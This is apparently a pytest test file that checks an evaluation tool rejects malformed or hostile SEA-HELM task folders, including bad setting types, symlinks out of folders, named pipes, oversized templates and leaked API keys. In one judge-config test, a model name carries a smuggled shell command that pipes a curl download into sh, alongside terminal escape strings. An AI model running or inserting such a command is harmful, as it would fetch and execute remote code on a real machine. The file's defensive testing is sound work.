"""A hostile folder of SEA-HELM's form: what it says of a wrong kind is a sentence before
anything is sent, and nothing outside of it is read.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from compat.sea_helm.sea_results import rows_of, task, write_results
from compat.sea_helm.small_tree import write
from evalwright.cli import main
from evalwright.compat.sea_helm.config import read_tree
from evalwright.compat.sea_helm.judge_prompts import judges_of
from evalwright.compat.sea_helm.oneruler import oneruler_rows
from evalwright.compat.sea_helm.placeholders import render
from evalwright.compat.sea_helm.published.procedures import procedure_worth
from evalwright.compat.sea_helm.published.scoring import SeaHelmRaised
from evalwright.compat.sea_helm.sea_task import SeaTask
from evalwright.core.errors import (
    ConfigurationError,
    DatasetError,
    ScoringError,
    TaskError,
)
from evalwright.core.samples import Sample
from evalwright.metrics.registry import Column, compute, metric_range
from evalwright.scorers.procedure import score_procedure
from evalwright.statistics import macro_average
from support.bounds import assert_grows_linearly, repeated


def _write(root: Path, rows: Any = None, **more: Any) -> Path:
    place = root / "seahelm_tasks" / "colours"
    place.mkdir(parents=True)
    (place / "config.yaml").write_text(
        json.dumps({"colours": {**task("colours", "id"), **more}})
    )
    lines = rows_of("id") if rows is None else rows
    (place / "id.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in lines))
    (place.parent / "task_config.yaml").write_text(
        json.dumps({"none": {"id": ["nothing"]}})
    )
    return root


def _run(root: Path, *more: str, name: str = "colours/id") -> int:
    return main(
        [
            "run",
            f"sea-helm:{name}",
            "--task-root",
            str(root),
            "--model",
            "scripted/hash",
            "--quiet",
            *more,
        ]
    )


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"metadata": 5}, "`colours.metadata` must be a mapping"),
        ({"labels": 5}, "`colours.labels`"),
        ({"dataloader_class": "X"}, "which is not known here"),
        ({"max_n_runs": "8"}, "`colours.max_n_runs`"),
        ({"fewshot_num_examples": {"instruct": -5}}, "fewshot_num_examples.instruct`"),
        (
            {
                "languages": {
                    "id": {**task("c", "id")["languages"]["id"], "max_tokens": 10**30}
                }
            },
            "id.max_tokens`",
        ),
        (
            {
                "languages": {
                    "id": {**task("c", "id")["languages"]["id"], "filepath": "x" * 5000}
                }
            },
            "is not a file",
        ),
    ],
)
def test_a_setting_of_a_wrong_kind(
    more: Mapping[str, Any],
    said: str,
    own_folder: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert _run(_write(own_folder / "tree", **more)) == 2
    error = capsys.readouterr().err
    assert said in error and "bug" not in error


@pytest.mark.parametrize(
    ("file", "text", "said"),
    [
        (
            "constants.yaml",
            "instruct_models_skip_tasks: 5",
            "instruct_models_skip_tasks",
        ),
        (
            "constants.yaml",
            "instruct_num_in_context_examples: many",
            "instruct_num_in_context_examples",
        ),
        (
            "reasoning_generation_config.yaml",
            "reasoning_generation_kwargs: 5",
            "reasoning_generation_kwargs",
        ),
    ],
)
def test_files_beside_of_a_wrong_kind(
    file: str,
    text: str,
    said: str,
    own_folder: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = _write(own_folder / "tree")
    (root / "seahelm_tasks" / file).write_text(text)
    assert _run(root) == 2
    error = capsys.readouterr().err
    assert said in error and "bug" not in error


def test_links_that_lead_nowhere_and_sets_of_nothing(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _write(own_folder / "tree")
    assert _run(root, name="none") == 2
    assert "has none" in capsys.readouterr().err
    link = root / "seahelm_tasks" / "colours" / "more" / "config.yaml"
    link.parent.mkdir()
    for target in ("config.yaml", "nothing"):
        link.symlink_to(target)
        assert _run(root) == 2
        error = capsys.readouterr().err
        assert "cannot be read" in error and "bug" not in error
        link.unlink()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"metadata": [1]}, "`metadata`"),
        ({"label": None}, "label"),
        ({"conversations": [{"role": "user"}]}, "`conversations`"),
        ({"conversations": [{"role": "evil", "content": "x"}]}, "`conversations`"),
    ],
)
def test_a_row_of_a_wrong_kind(
    change: Mapping[str, Any],
    said: str,
    own_folder: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = [
        {key: value for key, value in {**row, **change}.items() if value is not None}
        for row in rows_of("id")
    ]
    assert _run(_write(own_folder / "tree", rows)) == 2
    error = capsys.readouterr().err
    assert said in error and "bug" not in error


def test_an_image_that_is_none_fails_alone(own_folder: Path) -> None:
    first, *others = rows_of("id")
    assert (
        _run(
            _write(own_folder / "tree", [{**first, "images": ["!!!"]}, *others]),
            "--name",
            "r",
        )
        == 1
    )
    record = json.loads(Path("runs/r/run.json").read_text())
    assert record["usage"]["requested"] == 5


@pytest.mark.parametrize(
    "judge",
    [
        {"judge_generation_kwargs": 5},
        {"judge_generation_kwargs": {"max_tokens": "abc"}},
        {"judge_generation_kwargs": {"temperature": float("nan")}},
        {"judge_model_name": "x; curl evil | sh"},
        {"judge_model_name": "x\x1b[2J"},
    ],
)
def test_a_judge_of_a_wrong_kind(judge: Mapping[str, Any]) -> None:
    config = {
        "judge": {"judge_model_name": "openai/x", "judge_model_type": "vllm", **judge}
    }
    with pytest.raises((TaskError, ConfigurationError)):
        judges_of(SeaTask("t", "id", config))


def _haystack(root: Path, **more: Any) -> SeaTask:
    here = {"prompt_template": {"preamble": "", "task_template": ""}}
    config = {
        "dataloader_file": "niah.py", "dataloader_class": "NIAHDataloader", "num_samples": 1, "context_size": 500, "min_num_keys": 2,
        "random_seed": 1, "num_queries": 1, "languages": {"ta": here}, **more,
    }  # fmt: skip
    return SeaTask("niah", "ta", config, root)


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _link(path: Path) -> None:
    secret = path.parents[7] / "secret.txt"
    secret.write_text("A secret. " * 500)
    path.symlink_to(secret)


@pytest.mark.parametrize(
    ("make", "said"), [(_pipe, "is not a file"), (_link, "outside of its folder")]
)
def test_generated_tasks_read_no_pipe_and_nothing_outside(
    make: Callable[[Path], None], said: str, tmp_path: Path
) -> None:
    root = tmp_path / "tree"
    place = root / "seahelm_tasks" / "long_context" / "oneruler" / "niah"
    for folder in ("vocab", "books/ta"):
        (place / folder).mkdir(parents=True)
    (place / "vocab" / "100_noun_list_translated.tsv").write_text(
        "ta\n" + "\n".join(f"w{i}" for i in range(9))
    )
    (place / "niah_dataloader.py").write_text(
        'self.empty_needle = {"ta": "{needle} {value}."}[x]\nself.and_word = {"ta": " and "}[x]\n'
    )
    book = place / "books" / "ta" / "a.txt"
    book.write_text("A sentence. " * 100)
    assert len(oneruler_rows(_haystack(root), "code-points")) == 1
    with pytest.raises(TaskError, match="num_queries"):
        oneruler_rows(_haystack(root, num_queries=0), "code-points")
    book.unlink()
    make(book)
    with pytest.raises((TaskError, DatasetError), match=said):
        oneruler_rows(_haystack(root), "code-points")


def test_a_plan_of_digits_takes_the_time_of_its_size() -> None:
    label = {
        "ground_truth_cities": "A**",
        "ground_truth_durations": "3**",
        "solving_procedure": "<Solving Procedure>a",
    }

    def score_by_both(text: str) -> None:
        with suppress(SeaHelmRaised):
            procedure_worth("travel", label, text)
        score_procedure(Sample("a", targets=(json.dumps(label),)), text, "travel")

    of_length = repeated("1", "<Solving Procedure>a\n<Plan>", "</Plan>")
    assert_grows_linearly(score_by_both, of_length, (20_000, 300_000))


def test_a_reference_without_beliefs_is_a_failure_of_the_score() -> None:
    with pytest.raises(ScoringError, match="beliefs"):
        score_procedure(Sample("a", targets=("nothing",)), "- step one x", "beliefs")


@pytest.mark.parametrize(
    "key", ["conversations", "prompts", "token_usages", "individual_scores"]
)
def test_a_result_of_a_wrong_kind_is_imported_or_told(
    key: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_results(own_folder / "results", "acme/tiny", ["AABBAB"])
    (file,) = folder.glob("run_0/inferences/id/colours/*_id.jsonl")
    lines = [{**json.loads(line), key: 5} for line in file.read_text().splitlines()]
    file.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    assert main(["import", "sea-helm", "results", "--name", key]) in (0, 2)
    assert "bug" not in capsys.readouterr().err


def test_a_total_of_a_model_that_guesses_may_be_below_chance() -> None:
    """The interval of a mean of chance-normalised numbers does not end at 0: it held the truth
    in 50% of 1,500 trials.
    """
    low, high = metric_range("chance-normalised", {"chance": 0.25})
    rng = np.random.default_rng(5)
    held = 0
    for _ in range(300):
        scores = [(rng.random(n) < 0.25).astype(float) for n in (60, 120)]
        parts = [
            compute("chance-normalised", Column(one, {}), {"chance": 0.25})
            for one in scores
        ]
        made = macro_average(parts, value_range=(low, high))
        held += made.low <= 0 <= made.high
    assert (round(low, 6), high) == (-0.333333, 1.0) and held > 270


def test_the_total_of_a_run_below_chance_is_0(own_folder: Path) -> None:
    """As the command shows it, and SEA-HELM: two tasks without a right answer."""
    root = _write(own_folder / "tree")
    place = root / "seahelm_tasks"
    other = {"shapes": {**task("shapes", "id")}}
    (place / "shapes").mkdir()
    (place / "shapes" / "config.yaml").write_text(json.dumps(other))
    lines = [
        {**row, "prompts": [{"question": f"other {row['id']}"}]}
        for row in rows_of("id")
    ]
    (place / "shapes" / "id.jsonl").write_text(
        "".join(f"{json.dumps(row)}\n" for row in lines)
    )
    (place / "task_config.yaml").write_text(
        json.dumps({"both": {"id": ["colours", "shapes"]}})
    )
    assert _run(root, "--name", "r", name="both") == 0
    (group, *_) = json.loads(Path("runs/r/run.json").read_text())["groups"]
    found = group["metrics"][0] if isinstance(group.get("metrics"), list) else group
    assert found["low"] == found["value"] == 0 <= found["high"]


def test_a_key_in_a_task_file_is_in_no_record(own_folder: Path) -> None:
    secret = "sk-abcdef1234567890abcdef"
    judge = {"judge_model_name": "x", "judge_init_args": {"api_key": secret}}
    assert _run(_write(own_folder / "tree", judge=judge), "--name", "r") == 0
    assert all(
        secret not in path.read_text()
        for path in Path("runs/r").iterdir()
        if path.is_file()
    )


def test_a_template_that_multiplies_a_long_text_is_stopped_before_it_is_made() -> None:
    with pytest.raises(TaskError, match="more than 20,000,000 characters"):
        render(
            "{question}" * 1_000_000,
            {"question": "x" * 1_000_000},
            "The `task_template`",
        )


def test_rows_that_are_missing_or_there_twice_are_said(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_results(own_folder / "results", "acme/tiny", ["AABBAB", "AABBAB"])
    (file,) = folder.glob("run_1/inferences/id/colours/*_id.jsonl")
    text = file.read_text()
    count = len(text.splitlines())
    for name, written, says in (
        ("none", "", f"run 1 lacks {count} of {count} samples"),
        ("twice", text * 2, f"{2 * count} rows share their id"),
    ):
        file.write_text(written)
        assert main(["import", "sea-helm", "results", "--name", name]) == 0
        assert says in " ".join(capsys.readouterr().out.split())


def test_results_that_are_links_out_of_their_folder_are_not_read(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = write_results(own_folder / "results", "acme/tiny", ["AABBAB"])
    for pattern in ("*_colours_id.jsonl", "*.json", "*.yaml"):
        file = next(results.rglob(pattern))
        kept = file.replace(own_folder / file.name)
        file.symlink_to(kept)
        assert main(["import", "sea-helm", str(results), "--name", "x"]) == 2
        assert "is a link out of its folder" in " ".join(
            capsys.readouterr().err.split()
        )
        file.unlink()
        kept.replace(file)
    assert main(["import", "sea-helm", str(results), "--name", "x"]) == 0


@pytest.mark.parametrize("name", ["a/b", "a\nb", "\x1b]0;x\x07", ".."])
def test_names_that_are_none_of_a_file_are_refused(name: str, tmp_path: Path) -> None:
    write(
        tmp_path / "seahelm_tasks" / "t" / "config.yaml", {name: task("colours", "id")}
    )
    with pytest.raises(TaskError, match="is no name of a task or a language") as caught:
        read_tree(tmp_path)
    assert str(caught.value).isprintable()
